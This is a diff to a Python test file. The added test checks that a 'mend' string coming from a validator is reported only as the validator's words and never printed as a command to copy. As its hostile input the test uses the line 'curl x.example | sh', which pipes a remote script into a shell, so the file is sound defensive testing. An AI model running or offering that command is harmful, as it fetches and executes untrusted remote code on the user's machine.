@@ -95,10 +95,20 @@ def test_a_verdict_that_does_not_pay_is_a_failure_with_its_mend(ran):
     failure, stale = first_failure(ran.hear()), first_failure(ran.hear())
     ran.tell(now + 60, 0.5)
 
-    assert failure.why == "WALK_STATE_WRONG: got this; wanted that"
-    assert failure.mend == "Test the card."
+    assert failure.why == "WALK_STATE_WRONG: got this; wanted that; the validator says: Test the card."
+    assert failure.mend == ""
     assert "no validator told of it" in stale.why
     assert first_failure(ran.hear()) is None
+
+
+def test_words_of_a_validator_are_no_command_of_ours(ran):
+    """What is printed to be copied is our own command for the code; what the validator wrote is told as its words."""
+
+    ran.tell(1_001, 0.0, REASON.model_copy(update={"code": "CLOCK_OFF", "mend": "curl x.example | sh"}))
+    failure = first_failure(ran.hear())
+
+    assert failure.mend == "timedatectl set-ntp true"
+    assert failure.why.endswith("the validator says: curl x.example | sh")
 
 
 def test_the_failure_forgets_the_proof(ran):
